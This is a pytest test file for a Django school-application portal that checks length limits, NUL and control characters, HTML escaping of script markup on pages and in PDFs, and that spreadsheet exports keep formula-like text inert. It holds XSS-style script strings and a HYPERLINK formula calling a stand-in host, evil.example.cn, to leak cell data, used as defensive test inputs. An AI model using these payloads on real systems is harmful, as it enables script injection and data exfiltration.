"""Hostile text in the application form: values over a field's length are refused with the
field's Chinese message while everything else typed stays on the page; NUL characters are refused
with a message; other control characters are kept and the PDF and the exports still work; markup
is stored as typed, shown as text (escaped) on the school's and the reviewers' pages and printed as
plain text in the PDF; text that looks like a spreadsheet formula stays text in the exports.
Property tests throw arbitrary text at every field of the forms and the edit page."""
import io
from html.parser import HTMLParser

import pytest
from django import forms
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from applications.documents import application_pdf
from applications.forms import ApplicationForm, TeamMemberForm, team_formset
from applications.models import Application, Status, TeamMember
from applications.rules import TEXT_MAX_CHARS
from portal.models import School
from portal.pdf import missing_glyphs
from review.documents import recommendation_rows, summary_xlsx
from review.models import Forwarding
from review.rubric import rubric_ensure_default
from review.provincial import province_forward, province_recommend, province_return
from tests.applications.pages import descriptions, read_form
from tests.applications.test_edit_form import FILLED, NOT_SAVED_MESSAGE, TEAM, TEAM_FIELDS, as_opened, edit_url, page_values, team_data
from tests.review.helpers import reload, submit_complete
from tests.review.national_helpers import GOOD, assign, in_review, make_expert, pdf_text, squeeze, submit_review

pytestmark = pytest.mark.usefixtures("private_media")

NUL_MESSAGE = "内容中含有空字符（NUL），无法保存，请删除后重新输入。"


def max_length_message(limit: int, typed: int) -> str:
    return f"确保该变量包含不超过 {limit} 字符 (目前字符数 {typed})。"


# Every text field of the application form, with its length limit (None: a text area without one).
TEXT_FIELDS = {name: field.max_length for name, field in ApplicationForm.base_fields.items() if isinstance(field, forms.CharField)}
TEAM_LIMITS = {name: field.max_length for name, field in TeamMemberForm.base_fields.items()}
LIMITED = [name for name, limit in TEXT_FIELDS.items() if limit]


def test_the_form_has_the_text_fields_these_tests_cover():
    # If a field is added, it is covered by the tests below without change; this pins the set so
    # a renamed or dropped field is noticed.
    assert set(TEXT_FIELDS) == {
        "lead_name", "lead_title", "lead_mobile", "lead_title_note", "liaison_name", "liaison_title", "liaison_mobile",
        "other_project_name", "plan_name", "plan_content", "plan_steps", "plan_goals", "plan_features",
        "pledge_signatory", "unit_opinion", "supervisor_name",
    }  # fmt: skip
    assert TEAM_LIMITS == {"name": 50, "title": 50, "department": 100, "mobile": 20, "duty": 200}


@pytest.fixture
def school_client(client, user_a):
    client.force_login(user_a)
    return client


def another_field(name: str) -> str:
    """A field to type something else in, to see it kept on the refused page."""
    return "plan_goals" if name == "unit_opinion" else "unit_opinion"


# --- over-long values --------------------------------------------------------------------------------


# lead_name is in test_edit_form.py. The long sections with caps of their own (TEXT_MAX_CHARS) are
# stored but for the over-long one: test_section_caps.py.
@pytest.mark.parametrize("name", [name for name in LIMITED if name != "lead_name" and name not in TEXT_MAX_CHARS])
def test_a_value_over_a_fields_length_is_refused_and_the_rest_stays_on_the_page(school_client, complete_application_a, name):
    limit = TEXT_FIELDS[name]
    before = Application.objects.get(pk=complete_application_a.pk)
    values = page_values(school_client, complete_application_a)
    values[name] = "长" * (limit + 1)
    values[another_field(name)] = "新输入的意见，尚未保存。"

    response = school_client.post(edit_url(complete_application_a), values)

    assert response.status_code == 200
    html = response.content.decode()
    assert NOT_SAVED_MESSAGE in html
    shown, attrs = read_form(html, "application-form")
    assert shown[name] == ["长" * (limit + 1)] and shown[another_field(name)] == ["新输入的意见，尚未保存。"]
    assert max_length_message(limit, limit + 1) in descriptions(html, attrs[name])
    after = Application.objects.get(pk=complete_application_a.pk)
    assert (after.revision, getattr(after, name), getattr(after, another_field(name))) == (
        before.revision, getattr(before, name), getattr(before, another_field(name)),
    )  # fmt: skip


@pytest.mark.parametrize("name", LIMITED)
def test_a_value_of_exactly_the_length_is_stored(school_client, complete_application_a, name):
    values = page_values(school_client, complete_application_a)
    values[name] = "满" * TEXT_FIELDS[name]

    response = school_client.post(edit_url(complete_application_a), values)

    assert response.status_code == 302
    assert getattr(Application.objects.get(pk=complete_application_a.pk), name) == "满" * TEXT_FIELDS[name]


@pytest.mark.parametrize("field", TEAM_FIELDS)
def test_a_team_value_over_its_length_is_refused_on_its_row(school_client, complete_application_a, field):
    limit = TEAM_LIMITS[field]
    before = list(TeamMember.objects.filter(application=complete_application_a).values_list(*TEAM_FIELDS))
    values = page_values(school_client, complete_application_a)
    values[f"team-1-{field}"] = "长" * (limit + 1)
    values["team-2-duty"] = "新分工"

    response = school_client.post(edit_url(complete_application_a), values)

    assert response.status_code == 200
    html = response.content.decode()
    shown, attrs = read_form(html, "application-form")
    assert (shown[f"team-1-{field}"], shown["team-2-duty"]) == (["长" * (limit + 1)], ["新分工"])
    assert max_length_message(limit, limit + 1) in descriptions(html, attrs[f"team-1-{field}"])
    assert list(TeamMember.objects.filter(application=complete_application_a).values_list(*TEAM_FIELDS)) == before


# --- NUL and other control characters ------------------------------------------------------------------


@pytest.mark.parametrize("name", list(TEXT_FIELDS))
def test_a_nul_character_is_refused_with_a_message(school_client, complete_application_a, name):
    before = Application.objects.get(pk=complete_application_a.pk)
    values = page_values(school_client, complete_application_a)
    values[name] = "13\x00800000001" if name.endswith("mobile") else "王\x00晓燕"

    response = school_client.post(edit_url(complete_application_a), values)

    assert response.status_code == 200
    html = response.content.decode()
    _shown, attrs = read_form(html, "application-form")
    assert NUL_MESSAGE in descriptions(html, attrs[name])
    assert Application.objects.get(pk=complete_application_a.pk).revision == before.revision


@pytest.mark.parametrize("field", TEAM_FIELDS)
def test_a_nul_character_in_a_team_row_is_refused_with_a_message(school_client, complete_application_a, field):
    values = page_values(school_client, complete_application_a)
    values[f"team-0-{field}"] = "1\x002"

    response = school_client.post(edit_url(complete_application_a), values)

    html = response.content.decode()
    _shown, attrs = read_form(html, "application-form")
    assert NUL_MESSAGE in descriptions(html, attrs[f"team-0-{field}"])
    assert "\x00" not in "".join(TeamMember.objects.filter(application=complete_application_a).values_list(field, flat=True))


# Every C0 control character but NUL and the three that are ordinary white space, DEL, and the C1
# range; wrapped in letters so that trimming white space cannot touch them (Python's strip() takes
# \x0b, \x0c and \x1c–\x1f for white space). \x0b is what Word pastes for a manual line break.
CONTROLS = "".join(chr(c) for c in [*range(1, 9), 11, 12, *range(14, 32), 127, *range(0x80, 0xA0)])


def test_other_control_characters_are_stored_and_the_pdf_still_renders(school_client, application_a):
    typed = {
        "lead_name": f"王{CONTROLS[:20]}燕",
        "plan_name": f"方案{CONTROLS}名称",
        "plan_content": FILLED["plan_content"] + f"控{CONTROLS}制",
        "unit_opinion": f"同意{CONTROLS}申报",
    }
    team = [(f"王{CONTROLS[:10]}燕", *TEAM[0][1:4], f"分{CONTROLS}工"), *TEAM[1:3]]

    response = school_client.post(edit_url(application_a), as_opened(application_a, {**FILLED, **typed, **team_data(team)}))

    assert response.status_code == 302
    stored = Application.objects.get(pk=application_a.pk)
    assert {name: getattr(stored, name) for name in typed} == typed
    assert list(stored.team.order_by("position").values_list(*TEAM_FIELDS)) == team
    # The page gives back exactly what is stored (a second save changes nothing) ...
    assert {name: page_values(school_client, application_a)[name] for name in typed} == typed
    # ... and the PDF renders the text without them: no empty boxes, a text layer that reads.
    pdf = school_client.get(reverse("applications:pdf", args=[application_a.pk]))
    assert pdf.status_code == 200
    text = pdf_text(pdf.content)
    for printed in ("王燕", "方案名称", "同意申报", "资源。控", "制", "分工", "浙江示范职业技术学院"):
        assert printed in text, printed
    assert missing_glyphs(text) == set()


def test_control_characters_do_not_stop_the_province_forwarding_its_summary(zhejiang_window, zhejiang_reviewer, complete_application_a, user_a):
    # A lead's name pasted from Word with a vertical tab: the 推荐汇总表 (PDF and XLSX) is still made.
    application = submit_complete(complete_application_a, user_a, lead_name="王\x0b晓燕")
    province_recommend(application=application, actor=zhejiang_reviewer, opinion="同意推荐。", rank=1)

    forwarding = province_forward(window=zhejiang_window, actor=zhejiang_reviewer)

    assert Forwarding.objects.get() == forwarding
    sheet = load_workbook(forwarding.summary_xlsx.open("rb")).active
    assert sheet.cell(row=4, column=5).value == "王晓燕"  # the one character a worksheet cannot hold is left out
    assert forwarding.summary_pdf.open("rb").read()[:5] == b"%PDF-"


# --- markup --------------------------------------------------------------------------------------------


def markup(tag: str, limit: int | None) -> str:
    """Text that would become an element if it were not escaped, and that first tries to leave an
    attribute ("'>) where it is shown inside one; as long as the field allows."""
    full = f"\"'><script>{tag}</script>&amp;"
    return full if limit is None or len(full) <= limit else f"<script>{tag}</script>"


HOSTILE = {name: markup(f"a{index:02d}", limit) for index, (name, limit) in enumerate(TEXT_FIELDS.items())}
HOSTILE_TEAM = [tuple(markup(f"t{row}{col}", TEAM_LIMITS[field]) for col, field in enumerate(TEAM_FIELDS)) for row in range(3)]
# Shown only in some cases: the note when the lead is not a vice-principal (it is not, here: the
# title is markup), the other project's name when 其它 is chosen (it is not, here).
NOT_SHOWN_ON_PAGES = {"other_project_name"}


class _Text(HTMLParser):
    """The text of a page as a browser shows it, and the elements markup could have added."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.text, self.inline_scripts = [], 0

    def handle_starttag(self, tag, attrs):
        if tag == "script" and not dict(attrs).get("src"):
            self.inline_scripts += 1

    def handle_data(self, data):
        self.text.append(data)


def read_page(html: str) -> tuple[str, int]:
    parser = _Text()
    parser.feed(html)
    parser.close()
    return "".join(parser.text), parser.inline_scripts


def assert_shown_as_text(html: str, values):
    text, inline_scripts = read_page(html)
    assert inline_scripts == 0  # no <script> came from the data (the portal's pages have none)
    for value in values:
        assert value in text, value  # the literal text, as typed, is what the reader sees


@pytest.fixture
def hostile_draft(school_client, application_a):
    """School A's draft with markup in every text field and every team cell, saved through the page."""
    response = school_client.post(edit_url(application_a), as_opened(application_a, {**FILLED, **HOSTILE, "pledge_accept": "on", **team_data(HOSTILE_TEAM)}))
    assert response.status_code == 302
    return Application.objects.get(pk=application_a.pk)


def test_markup_is_stored_as_typed(hostile_draft):
    assert {name: getattr(hostile_draft, name) for name in HOSTILE} == HOSTILE
    assert list(hostile_draft.team.order_by("position").values_list(*TEAM_FIELDS)) == HOSTILE_TEAM


def test_markup_is_shown_as_text_on_the_schools_pages(school_client, hostile_draft):
    edit = school_client.get(edit_url(hostile_draft)).content.decode()
    detail = school_client.get(reverse("applications:detail", args=[hostile_draft.pk])).content.decode()

    # The edit form holds the values exactly (saving again keeps them), and nothing ran.
    shown = page_values(school_client, hostile_draft)
    assert {name: shown[name] for name in HOSTILE} == HOSTILE
    assert read_page(edit)[1] == 0
    assert "&lt;script&gt;a00&lt;/script&gt;" in edit
    assert_shown_as_text(detail, [v for name, v in HOSTILE.items() if name not in NOT_SHOWN_ON_PAGES] + [c for row in HOSTILE_TEAM for c in row])


def test_markup_is_shown_as_text_to_the_provincial_reviewer(client, zhejiang_reviewer, hostile_draft):
    # Arrange: submitted as it is (the markup in the mobile fields would fail the form's rules).
    Application.objects.filter(pk=hostile_draft.pk).update(status=Status.SUBMITTED, submitted_at=timezone.now())
    client.force_login(zhejiang_reviewer)

    html = client.get(reverse("review:province_application", args=[hostile_draft.pk])).content.decode()

    assert_shown_as_text(html, [v for name, v in HOSTILE.items() if name not in NOT_SHOWN_ON_PAGES] + [c for row in HOSTILE_TEAM for c in row])


def test_markup_is_printed_as_plain_text_in_the_pdf(hostile_draft):
    text = pdf_text(application_pdf(hostile_draft))

    assert "<script>" in text
    for name, value in HOSTILE.items():
        if name not in NOT_SHOWN_ON_PAGES:
            assert squeeze(value) in text, name
    for row in HOSTILE_TEAM:
        for value in row:
            assert squeeze(value) in text


def test_a_reviewers_markup_reaches_the_school_as_text(client, user_a, zhejiang_reviewer, complete_application_a):
    # The province's return reason is written by a reviewer and read by the school.
    application = submit_complete(complete_application_a, user_a)
    reason = "\"'><script>r1</script>请补充<b>盖章</b>页。"
    province_return(application=application, actor=zhejiang_reviewer, reason=reason)
    client.force_login(user_a)

    html = client.get(reverse("applications:detail", args=[application.pk])).content.decode()

    assert_shown_as_text(html, [reason])


# --- spreadsheet formulas ----------------------------------------------------------------------------


def test_text_that_looks_like_a_formula_stays_text_in_the_summary_spreadsheet(zhejiang_window, zhejiang_reviewer, complete_application_a, user_a):
    # A cell starting with "=" would run as a formula in the province's (and the education
    # department's) spreadsheet program: HYPERLINK leaks data, DDE runs programs.
    formula = '=HYPERLINK("http://evil.example.cn/?"&A1,"点此查看")'
    application = submit_complete(complete_application_a, user_a)
    Application.objects.filter(pk=application.pk).update(lead_title=formula)
    province_recommend(application=reload(application), actor=zhejiang_reviewer, opinion="同意推荐。", rank=1)

    data = summary_xlsx(zhejiang_window, recommendation_rows(zhejiang_window))

    cell = load_workbook(io.BytesIO(data)).active.cell(row=4, column=6)
    assert (cell.value, cell.data_type) == (formula, "s")


def test_text_that_looks_like_a_formula_stays_text_in_the_ranking_exports(client, batch, staff_user):
    # The school's name is typed at registration; the ranked table is exported for the group.
    rubric_ensure_default(batch)
    application, _user = in_review(batch, "四川公式职业技术学院", staff_user)
    submit_review(assign(application, make_expert("expert-f", "110000", "北京终身教育研究院"), staff_user), GOOD)
    School.objects.filter(pk=application.school_id).update(name="=1+2")
    Application.objects.filter(pk=application.pk).update(submitted_school_name="=1+2")  # as it was submitted with
    client.force_login(staff_user)

    xlsx = client.get(reverse("review:ranking_export", args=["xlsx"]), {"batch": batch.pk})
    csv_text = client.get(reverse("review:ranking_export", args=["csv"]), {"batch": batch.pk}).content.decode("utf-8-sig")

    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    [cell] = [cell for row in sheet.iter_rows(min_row=4) for cell in row if cell.value in ("=1+2", "'=1+2")]
    assert (cell.value, cell.data_type) == ("=1+2", "s")
    # In CSV there is no cell type: a leading apostrophe makes spreadsheet programs take it as text.
    assert ",'=1+2," in csv_text and ",=1+2," not in csv_text


# --- property tests ------------------------------------------------------------------------------------

# Any text a browser could send (NUL and control characters included), from empty to over every limit.
any_text = st.text(max_size=320)


def refused_for_a_reason(value: str, limit: int | None) -> bool:
    """Whether a text field must refuse `value`: a NUL character, or longer than its limit once
    trimmed (as Django trims before checking)."""
    return "\x00" in value or (limit is not None and len(value.strip()) > limit)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.fixed_dictionaries({name: any_text for name in TEXT_FIELDS}), route=any_text, projects=st.lists(any_text, max_size=3))
def test_the_application_form_only_ever_refuses_with_field_errors(application_a, values, route, projects):
    form = ApplicationForm({**values, "route": route, "projects": projects}, instance=application_a)

    valid = form.is_valid()  # must not raise, whatever the text

    assert set(form.errors) <= set(form.fields), form.errors
    for name, value in values.items():
        # A text field refuses exactly what it cannot store, and keeps the rest as typed (trimmed).
        assert (name in form.errors) == refused_for_a_reason(value, TEXT_FIELDS[name]), (name, value, form.errors.get(name))
        if valid:
            assert form.cleaned_data[name] == value.strip()


@pytest.mark.parametrize("posted", ["9223372036854775808", "-9223372036854775809", "1" * 40, "１２３４５６７８９０１２３４５６７８９０１２３"])
def test_a_project_id_no_database_can_hold_is_refused_next_to_the_field(application_a, posted):
    # Found by the test above: 2**63 reached SQLite, which cannot bind it (a server error).
    form = ApplicationForm({"projects": [posted]}, instance=application_a)
    assert not form.is_valid()
    assert "不是一个有效的值" in str(form.errors["projects"])


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.fixed_dictionaries({name: any_text for name in TEAM_FIELDS}))
def test_the_team_row_form_only_ever_refuses_with_field_errors(application_a, values):
    form = TeamMemberForm(values, instance=TeamMember(application=application_a))

    valid = form.is_valid()

    assert set(form.errors) <= set(form.fields), form.errors
    for name, value in values.items():
        assert (name in form.errors) == refused_for_a_reason(value, TEAM_LIMITS[name]), (name, value)
        if valid:
            assert form.cleaned_data[name] == value.strip()


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.fixed_dictionaries({name: any_text for name in TEXT_FIELDS}), row=st.tuples(*[any_text] * len(TEAM_FIELDS)))
def test_the_edit_page_saves_or_explains_whatever_is_typed(school_client, application_a, values, row):
    data = as_opened(application_a, {**values, **team_data([row])})
    formset_ok = team_formset(application=application_a, data=data).is_valid()

    response = school_client.post(edit_url(application_a), data)

    # Saved (and sent back to the form), or shown again with the reasons: never a server error.
    if response.status_code == 302:
        stored = Application.objects.get(pk=application_a.pk)
        assert {name: getattr(stored, name) for name in values} == {name: value.strip() for name, value in values.items()}
    else:
        assert response.status_code == 200
        assert NOT_SAVED_MESSAGE in response.content.decode()
        assert not (ApplicationForm(data, instance=application_a).is_valid() and formset_ok)


@settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.fixed_dictionaries({name: st.text(max_size=40).filter(lambda t: "\x00" not in t) for name in ("lead_name", "plan_name", "unit_opinion")}))
def test_the_pdf_renders_whatever_a_draft_holds(application_a, values):
    for name, value in values.items():
        setattr(application_a, name, value)
    application_a.save()

    pdf = application_pdf(Application.objects.get(pk=application_a.pk))

    assert pdf[:5] == b"%PDF-" and b"%%EOF" in pdf[-1024:]
